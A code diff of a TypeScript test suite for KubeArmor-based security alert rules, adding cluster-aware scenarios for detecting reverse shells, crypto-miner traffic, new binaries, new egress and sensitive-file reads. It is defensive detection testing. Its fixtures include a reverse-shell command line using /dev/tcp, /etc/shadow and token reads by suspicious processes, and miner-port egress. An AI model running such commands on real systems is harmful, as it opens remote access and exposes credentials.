@@ -144,7 +144,7 @@ interface Scenario {
   readonly labels: Row;
 }
 
-const place = { place: 'shop/wordpress', namespace: 'shop', workload: 'wordpress' };
+const place = { place: 'shop/wordpress', cluster: '', namespace: 'shop', workload: 'wordpress' };
 const logs = (...rows: readonly Row[]): Tables => ({ 'kubearmor.logs': rows });
 const alerts = (...rows: readonly Row[]): Tables => ({ 'kubearmor.alerts': rows });
 
@@ -156,6 +156,7 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       alerts(...blocks(10)),
       // Each workload for itself, and only what was received within the window, whatever its own time.
       alerts(...blocks(6), ...blocks(6, { workload: 'checkout' })),
+      alerts(...Array.from({ length: 11 }, (_, index) => blocks(1, { cluster: `plant-${index}` })).flat()),
       alerts(...blocks(20, { received_at: ago(6), time: ago(1) })),
       alerts(...blocks(20, { outcome: 'happened' })),
     ],
@@ -220,8 +221,6 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       // On a host, too, where somebody who does not log people in looks at it.
       logs(file('/etc/shadow', host)),
       logs(file('/etc/shadow', { ...host, process: '/tmp/sshd' })),
-      // One instance, however many names somebody gives his programs.
-      logs(...['/tmp/a', '/tmp/b', '/tmp/c'].map((process) => file('/etc/shadow', { process }))),
       // Its command line says it, without any File event.
       logs(exec('/bin/cat', { resource: `/bin/cat ${token}` })),
     ],
@@ -249,6 +248,8 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       logs(exec('/usr/sbin/apache2', { time: ago(1000) }), exec('/dev/shm/kworker', { time: ago(2) })),
       // It never ran a program before.
       logs(egress('10.0.0.1', {}, 1000), exec('/dev/shm/kworker')),
+      // Another cluster's workload of that name ran it before.
+      logs(exec('/dev/shm/kworker', east, 1000), exec('/usr/sbin/apache2', west, 1000), exec('/dev/shm/kworker', west)),
       // The sender's clock is wrong, or it is delivered late: what was heard first is new all the same.
       logs(exec('/usr/sbin/apache2', {}, 1000), exec('/dev/shm/kworker', { time: ago(900) })),
     ],
@@ -261,8 +262,9 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       // Known from its history, heard again live.
       logs(exec('/usr/sbin/apache2', { time: ago(1000) }), exec('/bin/sh', { time: ago(800) }), exec('/bin/sh')),
       logs(exec('/usr/sbin/apache2', {}, 1000), exec('/bin/sh', {}, 900), exec('/bin/sh')),
-      // A workload that nobody has watched before: all of it is new.
+      // A workload that nobody has watched before: all of it is new, whatever one of that name did in another cluster.
       logs(exec('/usr/sbin/apache2', {}, 40), exec('/bin/sh')),
+      logs(exec('/usr/sbin/apache2', east, 1000), exec('/usr/sbin/apache2', west, 40), exec('/bin/sh', west)),
       // Known there; another workload's history says nothing here.
       logs(exec('/bin/sh', { workload: 'checkout' }, 1000), exec('/bin/sh')),
     ],
@@ -273,6 +275,8 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       logs(egress('203.0.113.1', { time: ago(1000) }), egress('185.220.101.47', { time: ago(1) })),
       // It never left the network before.
       logs(egress('10.0.0.1', {}, 1000), egress('185.220.101.47')),
+      // Another cluster's workload of that name did.
+      logs(egress('185.220.101.47', east, 1000), egress('203.0.113.1', west, 1000), egress('185.220.101.47', west)),
     ],
     labels: { node: 'n1', ...place, remote_ip: '185.220.101.47' },
     quiet: [
@@ -287,6 +291,7 @@ const scenarios: Readonly<Record<string, Scenario>> = {
       ),
       logs(egress('203.0.113.1', {}, 1000), egress('185.220.101.47', { direction: 'ingress' })),
       logs(egress('203.0.113.1', {}, 40), egress('185.220.101.47')),
+      logs(egress('203.0.113.1', east, 1000), egress('203.0.113.1', west, 40), egress('185.220.101.47', west)),
     ],
   },
   'armorlake-miner': {
@@ -419,11 +424,13 @@ describe('the alert rules', () => {
       for (const link of links) {
         expect(link.match(/=\{\{ \. (?!\| urlquery \}\})/)).toBeNull();
         // The alert of an evaluation that failed has no numbers.
-        const { searchParams } = opened(link, { node: 'a&b' }, new Map());
+        const { searchParams } = opened(link, { node: 'a&b', cluster: 'c&d' }, new Map());
         expect([searchParams.get('from'), searchParams.get('to')]).toEqual(['now-24h', 'now']);
         // A burst may come from several nodes: its triage shows all of them.
         const everywhere = uid === 'armorlake-block-burst' && link === annotations.triage;
         expect(searchParams.get('var-node')).toBe(everywhere ? null : 'a&b');
+        // An event is one node's: it needs no cluster.
+        expect(searchParams.get('var-cluster')).toBe(link === annotations.process ? null : 'c&d');
       }
       expect(labels.mitre ?? 'T1').toMatch(/^TA?\d+(\.\d+)?$/);
     },
@@ -432,6 +439,14 @@ describe('the alert rules', () => {
   it('that need File events say so, and all others do not', () => {
     const saying = rules.filter(({ annotations }) => 'prerequisite' in annotations).map(({ uid }) => uid);
     expect(saying).toEqual(['armorlake-system-write', 'armorlake-sensitive-file']);
+  });
+
+  it('that say "never before" bear a node that is away, and say aloud when too many are', () => {
+    const firstSeen = rules.filter(({ uid }) => ['armorlake-new-binary', 'armorlake-new-egress'].includes(uid));
+    expect(firstSeen.map(({ execErrState }) => execErrState)).toEqual(['Error', 'Error']);
+    for (const { model } of firstSeen.flatMap(questionsOf)) {
+      expect(model.alertCoverage).toEqual({ mode: 'atLeast', percent: 95 });
+    }
   });
 
   it('of the examples send to contact points that are there', () => {
@@ -550,9 +565,56 @@ describe('each rule, asked of a node', () => {
     });
   });
 
+  function ruleOf(uid: string): Rule {
+    const rule = rules.find((each) => each.uid === uid);
+    if (rule === undefined) throw new Error(`There is no rule ${uid}.`);
+    return rule;
+  }
+
+  it('fires for a thief beside the application, whose own reading of its token is silenced', async () => {
+    const reads = (process: string) => file(token, { process });
+    const rule = ruleOf('armorlake-sensitive-file');
+    const fired = await within(logs(reads('/app/server'), reads('/bin/cat')), () => firing(rule));
+    const heard = fired.filter(({ process }) => process !== '/app/server');
+    expect(heard).toEqual([{ node: 'n1', ...place, process: '/bin/cat', outcome: 'happened' }]);
+  });
+
+  it.each([
+    ['armorlake-system-write', 'process', (process: string) => file('/etc/x', { ...written, process })],
+    ['armorlake-miner', 'process', (process: string) => egress('51.15.58.224', { process, remote_port: 3333 })],
+    [
+      'armorlake-reverse-shell',
+      'process',
+      (process: string) => exec(process, { resource: 'sh -i >& /dev/tcp/1.1.1.1/1' }),
+    ],
+    ['armorlake-production-shell', 'account', (user_name: string) => exec('/bin/sh', { tty: 'pts0', user_name })],
+  ] as const)('%s tells each %s apart', async (uid, label, by) => {
+    const fired = await within(logs(by('z'), by('a'), by('a')), () => firing(ruleOf(uid)));
+    expect(fired.map((labels) => labels[label]).toSorted()).toEqual(['a', 'z']);
+  });
+
+  it('tells of no more names of a workload than can be read, those first that were heard first, and of the rest as one', async () => {
+    const known = ['/app/server', '/app/client'].map((process) =>
+      file('/etc/shadow', { process, received_at: ago(9) }),
+    );
+    const crowd = Array.from({ length: 50 }, (_, index) =>
+      file('/etc/shadow', { process: `/Tmp/${index}`, node: `n${index % 2}` }),
+    );
+    const other = file('/etc/shadow', { ...east, process: '/bin/cat' });
+    const rule = ruleOf('armorlake-sensitive-file');
+    const found = await within(logs(...known, ...crowd, other), () => instances(rule, 'A'));
+    const here = found.filter(({ labels }) => labels['cluster'] === '');
+    const names = here.map(({ labels }) => String(labels['process']));
+    expect(new Set(names).size).toBe(21);
+    expect(names).toEqual(expect.arrayContaining(['/app/server', '/app/client', '(others)']));
+    expect(here.reduce((sum, { value }) => sum + value, 0)).toBe(52);
+    expect(found.filter(({ labels }) => labels['cluster'] === 'east').map(({ labels }) => labels['process'])).toEqual([
+      '/bin/cat',
+    ]);
+  });
+
   it('opens an hour before the first and after the last event of an instance', async () => {
-    const rule = rules.find(({ uid }) => uid === 'armorlake-sensitive-file');
-    if (rule === undefined) throw new Error('There is no such rule.');
+    const rule = ruleOf('armorlake-sensitive-file');
     const times = [ago(600), ago(30), ago(5)];
     const found = await within(logs(...times.map((time) => file('/etc/shadow', { time }))), () =>
       ranges(rule, scenarios[rule.uid]?.labels ?? {}),
@@ -561,8 +623,7 @@ describe('each rule, asked of a node', () => {
   });
 
   it('tells of no more new binaries of a workload than can be read', async () => {
-    const rule = rules.find(({ uid }) => uid === 'armorlake-new-binary');
-    if (rule === undefined) throw new Error('There is no such rule.');
+    const rule = ruleOf('armorlake-new-binary');
     const crowd = Array.from({ length: 50 }, (_, index) => exec(`/tmp/${index}`));
     expect(await within(logs(exec('/sbin/x', {}, 1000), ...crowd), () => firing(rule))).toHaveLength(20);
   });
@@ -586,7 +647,7 @@ describe('each rule, asked of a node', () => {
           maxDataPoints: 1,
         });
         // Where its links begin and end is the events' own time.
-        const judged = sql.replaceAll(/epoch_ms\((min|max)\(time\)\)/g, '');
+        const judged = sql.replaceAll(/epoch_ms\((min|max)\(time\)\)|min\(time\) AS first|max\(time\) AS last/g, '');
         if (sql.includes('kubearmor.')) expect(judged).not.toMatch(/(?<![_\w])time\b/);
       }
     }
